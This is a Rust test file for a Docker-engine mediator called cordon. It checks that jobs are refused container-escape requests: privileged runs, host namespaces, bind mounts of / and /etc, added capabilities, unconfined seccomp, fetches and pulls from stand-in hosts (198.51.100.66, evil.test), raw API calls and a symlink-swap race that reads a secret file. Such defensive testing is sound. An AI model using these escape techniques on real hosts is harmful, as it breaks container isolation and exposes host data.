//! What a job may not ask of an engine, each thing shown to work without cordon first.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use anyhow::{Context as _, Result, ensure};

use super::{Stage, says};
use crate::cases::outlive::only_job;
use crate::harness::engine::{Driver, IMAGE};

/// Words of `docker`, and what a refusal says.
const REFUSED: [(&str, &str); 28] = [
    (
        "run --rm --privileged IMAGE true",
        "`HostConfig.Privileged` is refused",
    ),
    ("run --rm --pid host IMAGE true", "PidMode"),
    ("run --rm --ipc host IMAGE true", "IpcMode"),
    ("run --rm --uts host IMAGE true", "UTSMode"),
    ("run --rm --userns host IMAGE true", "UsernsMode"),
    ("run --rm --network host IMAGE true", "the host's network"),
    (
        "run --rm -v /:/host IMAGE true",
        "the host's `/` in a container is refused",
    ),
    ("run --rm -v /etc:/x:ro IMAGE true", "the host's `/etc`"),
    (
        "run --rm --mount type=bind,src=/etc,dst=/x IMAGE true",
        "the host's `/etc`",
    ),
    (
        "run --rm -v HERE/..:/x IMAGE true",
        "in a container is refused",
    ),
    (
        "run --rm --mount type=volume,dst=/x,volume-driver=local,volume-opt=type=none,volume-opt=o=bind,\
         volume-opt=device=/etc IMAGE true",
        "options of a volume",
    ),
    (
        "volume create --opt type=none --opt o=bind --opt device=/etc tricky",
        "options of a volume",
    ),
    (
        "run --rm --cap-add SYS_ADMIN IMAGE true",
        "the capability `",
    ),
    ("run --rm --cap-add NET_RAW IMAGE true", "the capability `"),
    (
        "run --rm --device /dev/null:/dev/x IMAGE true",
        "`HostConfig.Devices` is refused",
    ),
    (
        "run --rm --device-cgroup-rule c_1:3_rwm IMAGE true",
        "`HostConfig.DeviceCgroupRules` is refused",
    ),
    (
        "run --rm --security-opt seccomp=unconfined IMAGE true",
        "the security option",
    ),
    (
        "run --rm --security-opt systempaths=unconfined IMAGE true",
        "which paths of /proc",
    ),
    (
        "run --rm --cgroup-parent GROUP IMAGE true",
        "`HostConfig.CgroupParent` is refused",
    ),
    (
        "run --rm --runtime io.containerd.runc.v2 IMAGE true",
        "the runtime",
    ),
    (
        "run --rm --log-driver syslog --log-opt syslog-address=udp://198.51.100.66:514 IMAGE true",
        "the log driver",
    ),
    ("run --rm --init IMAGE true", "`HostConfig.Init` is refused"),
    ("run --rm --oom-score-adj -1 IMAGE true", "OomScoreAdj"),
    (
        "network create --driver macvlan m",
        "the network driver `macvlan`",
    ),
    (
        "network create --subnet 198.51.100.0/24 s",
        "`IPAM.Config` is refused",
    ),
    (
        "tag IMAGE IMAGE",
        "is refused: the engine has such an image",
    ),
    ("rmi IMAGE", "removing this image is refused"),
    ("plugin ls", "`/plugins` is refused"),
];

/// Those that change what stories stand on, or are refused here by the engine itself, are not done freely.
const NOT_FREELY: [&str; 3] = ["rmi", "--log-driver syslog", "macvlan"];

fn words(line: &str, stage: &Stage<'_>) -> Vec<String> {
    let here = stage.workspace.display().to_string();
    let host = stage.world.cgroup().host();
    let group = host
        .strip_prefix(&stage.world.environment.cgroup2)
        .unwrap_or(&host);
    let group = format!("/{}/mine", group.display());
    line.split_whitespace()
        .map(|word| match word {
            "IMAGE" => IMAGE.to_owned(),
            "GROUP" => group.clone(),
            word => word
                .replace("HERE", &here)
                .replace('_', if word.contains("_1:3") { " " } else { "_" }),
        })
        .collect()
}

pub(super) fn refused(stage: &Stage<'_>) -> Result<()> {
    let mut script = String::new();
    for (line, _) in REFUSED {
        let words = words(line, stage);
        if !NOT_FREELY.iter().any(|not| line.contains(not)) {
            // Accepting it is enough: not every machine that runs stories has all rights itself.
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            let words = match words.as_slice() {
                ["run", "--rm", rest @ ..] => [&["create"], rest].concat(),
                other => other.to_vec(),
            };
            stage
                .engine
                .done(&words)
                .with_context(|| format!("freely: {line}"))?;
        }
        let quoted: Vec<String> = words.iter().map(|word| format!("'{word}'")).collect();
        script += &format!(
            "docker {} >/dev/null 2>err; echo \"$? $(tr '\\n' ' ' <err)\"\n",
            quoted.join(" ")
        );
    }
    let finished = stage.job(&script)?.expect_status(0)?;
    let lines: Vec<&str> = finished.stdout.lines().collect();
    ensure!(lines.len() == REFUSED.len(), "{}", finished.stdout);
    for ((line, needle), said) in REFUSED.iter().zip(lines) {
        ensure!(!said.starts_with("0 "), "docker {line}: was not refused");
        says(said, "cordon: ").with_context(|| format!("docker {line}"))?;
        says(said, needle).with_context(|| format!("docker {line}"))?;
    }
    let report = finished.report_text()?;
    says(&report, "requests refused")?;
    exec_and_build(stage)
}

/// Builds that are tried: a client that still sends its files when the connection closes shows no refusal, now and
/// then.
const BUILDS: usize = 20;

fn exec_and_build(stage: &Stage<'_>) -> Result<()> {
    stage
        .engine
        .done(&["run", "-d", "--name", "free", IMAGE, "sleep", "60"])?;
    let freely = stage
        .engine
        .docker(&["exec", "--privileged", "free", "true"])?;
    // A machine without all rights cannot give them away. The client says so where the program would speak.
    let said = [freely.stdout, freely.stderr].concat();
    let said = String::from_utf8_lossy(&said);
    ensure!(
        freely.status.success() || said.contains("unable to apply caps"),
        "freely: {said}"
    );
    let script = format!(
        "docker run -d --name mine {IMAGE} sleep 60 >/dev/null\n\
         docker exec --privileged mine true; echo $?\n\
         docker exec mine grep CapBnd /proc/self/status\n\
         head -c 3000000 /dev/urandom > large\n\
         printf 'FROM {IMAGE}\\nADD http://198.51.100.66:8080/ /x\\n' > Dockerfile\n\
         for i in $(seq {BUILDS}); do docker build . ; echo $?; done\n\
         docker pull evil.test/x/y:1; echo $?\n\
         docker login -u u -p p evil.test; echo $?\n"
    );
    let finished = stage.job(&script)?;
    let said = format!("{}{}", finished.stdout, finished.stderr);
    says(&said, "a privileged process has every capability")?;
    // Without NET_RAW (bit 13), MKNOD (27) and SYS_ADMIN (21).
    let bounding = said
        .lines()
        .find_map(|line| line.strip_prefix("CapBnd:"))
        .context("CapBnd")?;
    let bounding = u64::from_str_radix(bounding.trim(), 16)?;
    ensure!(
        bounding & (1 << 13 | 1 << 27 | 1 << 21) == 0,
        "{bounding:x}"
    );
    let refusals = said
        .matches("would fetch an address past the job's rules")
        .count();
    ensure!(
        refusals == BUILDS,
        "{refusals} of {BUILDS} builds were refused in words:\n{said}"
    );
    says(
        &said,
        "the registry `evil.test:443` is refused: no rule allows it",
    )?;
    stage.world.nothing_leaked()
}

/// Method, target and body; the status that answers.
const RAW: [(&str, &str, &str, u16); 15] = [
    ("GET", "/_ping", "", 200),
    (
        "POST",
        "/swarm/init",
        "{\"ListenAddr\":\"127.0.0.1:2377\"}",
        403,
    ),
    ("POST", "/v1.41/session", "", 403),
    ("POST", "/grpc", "", 403),
    ("GET", "/secrets", "", 403),
    ("POST", "/plugins/pull?remote=x", "", 403),
    ("POST", "/images/load", "", 403),
    (
        "POST",
        "/images/create?fromSrc=http://198.51.100.66:8080/x.tar&repo=x",
        "",
        403,
    ),
    (
        "POST",
        "/build?remote=http://198.51.100.66:8080/x.git",
        "",
        403,
    ),
    ("GET", "/containers/../info", "", 400),
    ("GET", "/containers/json?filters=x", "", 400),
    (
        "POST",
        "/containers/create",
        "{\"image\":\"story:1\",\"hostconfig\":{\"privileged\":true}}",
        400,
    ),
    (
        "POST",
        "/containers/create",
        "{\"Image\":\"story:1\",\"HostConfig\":{\"NewFlag\":1}}",
        400,
    ),
    ("POST", "/containers/create", "[]", 400),
    ("DELETE", "/networks/bridge", "", 404),
];

pub(super) fn raw(stage: &Stage<'_>) -> Result<()> {
    let mut script = String::from("U=http://${DOCKER_HOST#tcp://}\n");
    for (method, target, body, _) in RAW {
        let body = if body.is_empty() {
            String::new()
        } else {
            format!("-H 'Content-Type: application/json' -d '{body}'")
        };
        script += &format!(
            "curl -s --path-as-is -g -X {method} {body} -w ' %{{http_code}}\\n' \"$U{target}\" | tr '\\n' ' '; echo\n"
        );
    }
    // Not HTTP, and a head that never ends.
    script += "printf '\\000\\001\\002\\003' | python3 -c 'import os,socket,sys; h=os.environ[\"DOCKER_HOST\"].rsplit(\":\",1)[1]; \
               s=socket.create_connection((\"127.0.0.1\",int(h))); s.sendall(sys.stdin.buffer.read()+b\"\\r\\n\\r\\n\"); \
               print(s.recv(64)[:12])'\ncurl -s $U/_ping\n";
    let finished = stage.job(&script)?.expect_status(0)?;
    for ((method, target, _, status), said) in RAW.iter().zip(finished.stdout.lines()) {
        ensure!(
            said.trim_end().ends_with(&status.to_string()),
            "{method} {target}: {said}"
        );
        ensure!(
            *status == 200 || said.contains("\"message\":\"cordon: "),
            "{method} {target}: {said}"
        );
    }
    says(&finished.stdout, "OK")?;
    stage.world.nothing_leaked()
}

pub(super) fn links(stage: &Stage<'_>) -> Result<()> {
    let secret = stage.world.path("secret");
    fs::create_dir(&secret)?;
    fs::write(secret.join("word"), "not-for-jobs")?;
    let inside = stage.workspace.join("data");
    fs::create_dir(&inside)?;
    fs::write(inside.join("word"), "for-jobs")?;
    symlink(&secret, stage.workspace.join("link"))?;
    let mount = |from: &Path| format!("{}:/x", from.display());
    // Freely, the link leads out.
    let link = mount(&stage.workspace.join("link"));
    let said = stage
        .engine
        .done(&["run", "--rm", "-v", &link, IMAGE, "cat", "/x/word"])?;
    says(&said, "not-for-jobs")?;
    let script = format!(
        "docker run --rm -v {data}:/x {IMAGE} cat /x/word\n\
         docker run --rm -v {link} {IMAGE} cat /x/word\n\
         docker create --name late -v {data}:/x {IMAGE} cat /x/word\n\
         mv data moved; ln -s {secret} data\n\
         docker start -a late\n\
         rm data; mv moved data; mkfifo data/pipe\n\
         docker run --rm -v {data}/pipe:/x {IMAGE} cat /x/word\n\
         docker run --rm -v {data}:/x {IMAGE} mknod /x/device b 8 0 || echo no-device\n",
        data = inside.display(),
        secret = secret.display(),
    );
    let finished = stage.job(&script)?;
    let said = format!("{}{}", finished.stdout, finished.stderr);
    says(&said, "for-jobs")?;
    ensure!(!said.contains("not-for-jobs"), "the link led out:\n{said}");
    let links = said.matches("is a symbolic link").count();
    ensure!(links == 2, "{links} links were refused:\n{said}");
    says(&said, "is neither a directory nor a file")?;
    says(&said, "no-device")
}

pub(super) fn past_the_mediator(stage: &Stage<'_>) -> Result<()> {
    let (ready, go) = (stage.world.path("ready"), stage.world.path("go"));
    let script = format!(
        "touch {}; while [ ! -e {} ]; do sleep 0.1; done",
        ready.display(),
        go.display()
    );
    let mut running = stage.start(&script)?;
    running.until(&ready)?;
    let job = only_job(stage.world)?;
    let root = stage.world.cgroup().root();
    let root = root
        .strip_prefix(&stage.world.environment.cgroup2)
        .unwrap_or(root);
    let place = format!("/{}/cordon.slice/job-{job}", root.display());
    let parent = match stage.engine.driver() {
        Driver::Cgroupfs => place.clone(),
        Driver::Systemd => format!("cordon-job-{job}.slice"),
    };
    let tries: [(&[&str], &str); 9] = [
        (&["--privileged"], "it has the device"),
        (&["--network", "host"], "it joins the namespace"),
        (&["--pid", "host"], "it shares the host's pid namespace"),
        (&["-v", "/etc:/x"], "it mounts the host's `/etc`"),
        (&["--cap-add", "SYS_ADMIN"], "it has the capability"),
        (&["--device", "/dev/null:/dev/x"], "it has the device"),
        (
            &["--device-cgroup-rule", "b 8:0 rwm"],
            "it may use a device",
        ),
        (
            &["--security-opt", "seccomp=unconfined"],
            "it has no system call filter",
        ),
        (
            &[
                "--mount",
                "type=volume,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/etc",
            ],
            "something else is mounted there",
        ),
    ];
    let tried = || -> Result<()> {
        for (options, needle) in tries {
            let mut words = vec!["run", "--rm", "--cgroup-parent", &parent];
            words.extend(options);
            words.extend([IMAGE, "true"]);
            let output = stage.engine.docker(&words)?;
            ensure!(!output.status.success(), "{options:?}: it ran");
            says(&String::from_utf8_lossy(&output.stderr), needle)
                .with_context(|| format!("{options:?}"))?;
        }
        // A plain one runs, as the job's; families of sockets that lead elsewhere are not there.
        let put = stage.engine.done(&[
            "run",
            "--rm",
            "--cgroup-parent",
            &parent,
            IMAGE,
            "grep",
            "0::",
            "/proc/self/cgroup",
        ])?;
        says(&put, &place)
    };
    let tried = tried();
    fs::write(&go, "")?;
    running.wait()?.expect_status(0)?;
    tried?;
    let late = stage
        .engine
        .docker(&["run", "--rm", "--cgroup-parent", &parent, IMAGE, "true"])?;
    ensure!(
        !late.status.success(),
        "a container of a job that is over ran"
    );
    says(
        &String::from_utf8_lossy(&late.stderr),
        "cordon knows no job",
    )
}
